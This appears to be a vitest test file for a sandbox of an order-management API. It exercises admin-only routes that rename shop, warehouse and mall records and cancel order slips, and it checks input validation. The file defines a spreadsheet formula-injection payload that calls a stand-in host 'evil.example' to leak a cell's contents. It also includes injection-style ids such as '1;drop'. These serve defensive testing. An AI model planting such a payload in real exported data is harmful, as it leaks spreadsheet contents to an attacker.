// What a person changes on the main function's screens, which the API has no call for:
// PUT /__sandbox/masters/<master>/<id> renames a shop, warehouse or mall of one company, and the
// API's searches answer the new name; POST /__sandbox/orders/<id>/cancel cancels one slip, and the
// searches answer the cancel classification and a newer last-modified date (what an incremental
// `*_last_modified_null_safe_date-gt` read finds).
// Like every test control it exists only with SANDBOX_ADMIN: server.ts mounts the whole /__sandbox
// router only then (calls.test.ts proves the 404 without it).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RunningSandbox } from "./server";
import { admin, call, login, startTestSandbox, type Tokens } from "./test-support";

let sb: RunningSandbox;
let staff: Tokens;
let operator: Tokens;
beforeAll(async () => {
  sb = await startTestSandbox();
  staff = await login(sb.url);
  operator = await login(sb.url, "operator@another.test");
});
afterAll(async () => {
  await sb?.close();
});

const EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"Open")';

async function nameOf(tokens: Tokens, path: string, idField: string, nameField: string, id: string): Promise<string | null | undefined> {
  const answer = await call(sb.url, path, { ...tokens, fields: `${idField},${nameField}`, [`${idField}-eq`]: id });
  expect(answer.result, JSON.stringify(answer)).toBe("success");
  return answer.data?.[0]?.[nameField];
}

describe("PUT /__sandbox/masters/<master>/<id>", () => {
  it("renames one company's shop, warehouse and mall; the searches answer the new names; the other company's are untouched", async () => {
    const cases = [
      { master: "shop", path: "/api_v1_master_shop/search", id: "shop_id", name: "shop_name" },
      { master: "warehouse", path: "/api_v1_warehouse_base/search", id: "warehouse_id", name: "warehouse_name" },
      { master: "mall", path: "/api_v1_system_mall/search", id: "mall_id", name: "mall_name" },
    ] as const;
    for (const c of cases) {
      const theirsBefore = await nameOf(operator, c.path, c.id, c.name, "1");
      const before = await nameOf(staff, c.path, c.id, c.name, "1");
      expect(before, c.master).toBeTruthy();
      const res = await admin(sb.url, "PUT", `/masters/${c.master}/1`, { login_code: "staff@sandbox.test", name: EVIL });
      expect(res.status, c.master).toBe(200);
      expect(await res.json()).toEqual({ master: c.master, company_ne_id: "NE0000000001", id: "1", name: EVIL, previous_name: before });
      expect(await nameOf(staff, c.path, c.id, c.name, "1")).toBe(EVIL);
      expect(await nameOf(operator, c.path, c.id, c.name, "1")).toBe(theirsBefore);
      const back = await admin(sb.url, "PUT", `/masters/${c.master}/1`, { company_ne_id: "NE0000000001", name: before! });
      expect(((await back.json()) as { previous_name: string }).previous_name).toBe(EVIL);
      expect(await nameOf(staff, c.path, c.id, c.name, "1")).toBe(before);
    }
  });

  it("checks its input: the master, the id, one company, a name; 404 for a row the company does not have", async () => {
    const put = (path: string, body: Record<string, unknown>) => admin(sb.url, "PUT", path, body);
    const staffName = { login_code: "staff@sandbox.test", name: "x" };
    expect((await put("/masters/goods/1", staffName)).status).toBe(400);
    expect((await put("/masters/shop/1;drop", staffName)).status).toBe(400);
    expect((await put("/masters/shop/1", { name: "x" })).status).toBe(400);
    expect((await put("/masters/shop/1", { ...staffName, company_ne_id: "NE0000000001" })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "staff@sandbox.test", name: "" })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "staff@sandbox.test", name: "x".repeat(201) })).status).toBe(400);
    expect((await put("/masters/shop/1", { login_code: "nobody@x", name: "x" })).status).toBe(400);
    expect((await put("/masters/shop/1", { ...staffName, extra: 1 })).status).toBe(400);
    const missing = await put("/masters/shop/999999", staffName);
    expect(missing.status).toBe(404);
    expect(await missing.json()).toEqual({ error: "company NE0000000001 has no shop 999999" });
  });
});

const FIELDS = "receive_order_id,receive_order_cancel_type_id,receive_order_cancel_type_name,receive_order_cancel_date,receive_order_last_modified_null_safe_date,receive_order_last_modified_by_null_safe_name";

async function slip(tokens: Tokens, conditions: Record<string, string>) {
  const answer = await call(sb.url, "/api_v1_receiveorder_base/search", { ...tokens, fields: FIELDS, limit: "1", ...conditions });
  expect(answer.result, JSON.stringify(answer)).toBe("success");
  return answer.data?.[0];
}

describe("POST /__sandbox/orders/<id>/cancel", () => {
  it("cancels that company's slip: classification, name, cancel date and last-modified change; a -gt read of the old mark finds it", async () => {
    const before = await slip(staff, { "receive_order_cancel_type_id-eq": "0" });
    expect(before).toBeTruthy();
    const id = before!.receive_order_id!;
    const res = await admin(sb.url, "POST", `/orders/${id}/cancel`, { login_code: "manager@sandbox.test", cancel_type_id: "2" });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { receive_order_cancel_date: string };
    expect(body).toMatchObject({ company_ne_id: "NE0000000001", receive_order_id: id, receive_order_cancel_type_id: "2" });
    const after = await slip(staff, { "receive_order_id-eq": id });
    expect(after).toMatchObject({
      receive_order_cancel_type_id: "2",
      receive_order_cancel_type_name: "欠品によるキャンセル",
      receive_order_cancel_date: body.receive_order_cancel_date,
      receive_order_last_modified_null_safe_date: body.receive_order_cancel_date,
      receive_order_last_modified_by_null_safe_name: "鈴木 一郎",
    });
    const changed = await slip(staff, { "receive_order_id-eq": id, "receive_order_last_modified_null_safe_date-gt": before!.receive_order_last_modified_null_safe_date! });
    expect(changed?.receive_order_id).toBe(id);
    // The other company's slip of the same number (if any) is untouched.
    const theirs = await slip(operator, { "receive_order_id-eq": id });
    if (theirs) expect(theirs.receive_order_cancel_type_id).not.toBe("2");
  });

  it("checks its input: the id, one company, a cancel classification of 1 to 5; 404 for a slip the company does not have", async () => {
    const post = (path: string, body: Record<string, unknown>) => admin(sb.url, "POST", path, body);
    const staffBody = { login_code: "staff@sandbox.test" };
    expect((await post("/orders/1;drop/cancel", staffBody)).status).toBe(400);
    expect((await post("/orders/1/cancel", {})).status).toBe(400);
    expect((await post("/orders/1/cancel", { ...staffBody, company_ne_id: "NE0000000001" })).status).toBe(400);
    expect((await post("/orders/1/cancel", { ...staffBody, cancel_type_id: "0" })).status).toBe(400);
    expect((await post("/orders/1/cancel", { ...staffBody, cancel_type_id: "9" })).status).toBe(400);
    expect((await post("/orders/1/cancel", { login_code: "nobody@x" })).status).toBe(400);
    expect((await post("/orders/999999999/cancel", staffBody)).status).toBe(404);
  });
});
